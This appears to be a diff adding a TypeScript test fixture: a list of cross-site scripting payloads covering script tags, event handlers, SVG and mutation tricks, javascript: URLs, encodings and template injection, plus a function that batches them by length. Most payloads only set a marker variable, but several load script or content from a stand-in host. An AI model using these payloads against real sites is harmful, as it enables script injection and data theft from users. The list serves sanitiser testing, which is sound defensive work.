@@ -1,0 +1,122 @@
+/** What somebody could write to make a browser run it: each would set `ran`, open a dialog, or ask another server. */
+export const payloads: readonly string[] = [
+  // Elements that run by themselves.
+  '<script>ran=1</script>',
+  '<SCRIPT SRC=https://elsewhere.example/a.js></SCRIPT>',
+  '<script type=module>window.ran=1</script>',
+  '<scr<script>ipt>ran=1</scr</script>ipt>',
+  '<script\u00a0>ran=1</script>',
+  '<script/x>ran=1</script>',
+  '<script>alert(1)//',
+  '<<script>ran=1;//<</script>',
+  '</script><script>ran=1</script>',
+  '</title><script>ran=1</script>',
+  '</textarea><script>ran=1</script>',
+  '</style><script>ran=1</script>',
+  '</option></select><script>ran=1</script>',
+  '--><script>ran=1</script>',
+  ']]><script>ran=1</script>',
+  '<noscript><p title="</noscript><img src=x onerror=ran=1>">',
+  '<template><script>ran=1</script></template>',
+  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
+  '<iframe src="javascript:parent.ran=1"></iframe>',
+  '<iframe src=https://elsewhere.example/frame></iframe>',
+  '<embed src="javascript:ran=1">',
+  '<object data="javascript:ran=1"></object>',
+  '<object data=https://elsewhere.example/o></object>',
+  '<frameset onload=ran=1>',
+  '<base href=https://elsewhere.example/>',
+  '<meta http-equiv=refresh content="0;url=javascript:ran=1">',
+  '<meta http-equiv=refresh content="0;url=https://elsewhere.example/">',
+  '<link rel=stylesheet href=https://elsewhere.example/a.css>',
+  '<link rel=prefetch href=https://elsewhere.example/p>',
+  '<form action=https://elsewhere.example/><button autofocus onfocus=ran=1>',
+  // Attributes that run.
+  '<img src=x onerror=ran=1>',
+  '<img src=x onerror="alert(1)">',
+  '<img/src=x/onerror=ran=1>',
+  '<img src=x onerror=&#114;an=1>',
+  '<img src=x oneRror=ran=1>',
+  '<img src="x` `onerror=ran=1 ` `">',
+  '"><img src=x onerror=ran=1>',
+  "'><img src=x onerror=ran=1>",
+  '" onfocus=ran=1 autofocus x="',
+  "' onfocus=ran=1 autofocus x='",
+  '" onmouseover="ran=1" style="position:fixed;inset:0',
+  '` onerror=ran=1 `',
+  '<body onload=ran=1>',
+  '<body onpageshow=ran=1>',
+  '<input autofocus onfocus=ran=1>',
+  '<select autofocus onfocus=ran=1>',
+  '<textarea autofocus onfocus=ran=1>',
+  '<video src=x onerror=ran=1>',
+  '<video><source onerror=ran=1>',
+  '<audio src=x onerror=ran=1>',
+  '<details open ontoggle=ran=1>',
+  '<marquee onstart=ran=1>',
+  '<style onload=ran=1></style>',
+  '<p style="animation:x" onanimationstart=ran=1><style>@keyframes x{}</style>',
+  '<div popover id=p onbeforetoggle=ran=1></div><button popovertarget=p autofocus>',
+  '<x contenteditable onfocus=ran=1 autofocus tabindex=1>',
+  '<img src=https://elsewhere.example/i.png>',
+  '<img srcset="https://elsewhere.example/s.png 1x">',
+  // SVG and MathML.
+  '<svg onload=ran=1>',
+  '<svg/onload=ran=1//',
+  '<svg><script>ran=1</script></svg>',
+  '<svg><script href=https://elsewhere.example/s.js /></svg>',
+  '<svg><animate onbegin=ran=1 attributeName=x dur=1s>',
+  '<svg><set onbegin=ran=1 attributeName=x>',
+  '<svg><a xlink:href="javascript:ran=1"><text x=20 y=20>x</text></a></svg>',
+  '<svg><use href="data:image/svg+xml,<svg id=x onload=ran=1>#x"></svg>',
+  '<svg><foreignObject><img src=x onerror=ran=1></foreignObject></svg>',
+  '<svg><image href=https://elsewhere.example/i.svg></svg>',
+  '<math><a xlink:href="javascript:ran=1">x</a></math>',
+  // Markup that changes when it is parsed again.
+  '<math><mtext><table><mglyph><style><img src=x onerror=ran=1></style>',
+  '<svg></p><style><a id="</style><img src=x onerror=ran=1>">',
+  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran=1>',
+  '<noembed><img title="</noembed><img src=x onerror=ran=1>">',
+  '<xmp><p title="</xmp><img src=x onerror=ran=1>">',
+  '<select><template><img src=x onerror=ran=1></template></select>',
+  '<!--<img src="--><img src=x onerror=ran=1>">',
+  '<![CDATA[><img src=x onerror=ran=1>]]>',
+  '<?xml version="1.0"?><x onload=ran=1>',
+  // Addresses.
+  'javascript:ran=1',
+  'JaVaScRiPt:alert(1)',
+  'java\tscript:ran=1',
+  'javascript://elsewhere.example/%0aran=1',
+  'data:text/html,<script>parent.ran=1</script>',
+  'vbscript:msgbox(1)',
+  '<a href="javascript:ran=1" autofocus onfocus=ran=1>x</a>',
+  '<a href=https://elsewhere.example/ ping=https://elsewhere.example/>x</a>',
+  '[x](javascript:ran=1)',
+  '![x](https://elsewhere.example/m.png)',
+  // Entities, signs nobody sees, other writings of the same.
+  '&lt;script&gt;ran=1&lt;/script&gt;',
+  '&#x3c;img src=x onerror=ran=1&#x3e;',
+  '\\u003cscript\\u003eran=1\\u003c/script\\u003e',
+  '%3Cscript%3Eran=1%3C/script%3E',
+  '\u202e<script>ran=1</script>\u202c',
+  '\u2066<img src=x onerror=ran=1>\u2069',
+  '\uff1cscript\uff1eran=1\uff1c/script\uff1e',
+  // Templates, styles, formulas.
+  '{{constructor.constructor("ran=1")()}}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant to look like one
+  '${ran=1}#{ran=1}<%= ran=1 %>',
+  '{count, plural, other {<b onclick=ran=1>x</b>}}',
+  '<style>@import"https://elsewhere.example/i.css";*{background:url(https://elsewhere.example/b)}</style>',
+  '=HYPERLINK("https://elsewhere.example/","x")'
+]
+
+/** The payloads side by side, in as few texts as there must be of so many characters at most. */
+export function batchesOf(longest: number, given: readonly string[] = payloads): readonly string[] {
+  const batches: string[] = []
+  for (const payload of given) {
+    const joined = `${batches.at(-1) ?? ''} ${payload}`.trim()
+    if (batches.length > 0 && joined.length <= longest) batches[batches.length - 1] = joined
+    else batches.push(payload)
+  }
+  return batches
+}
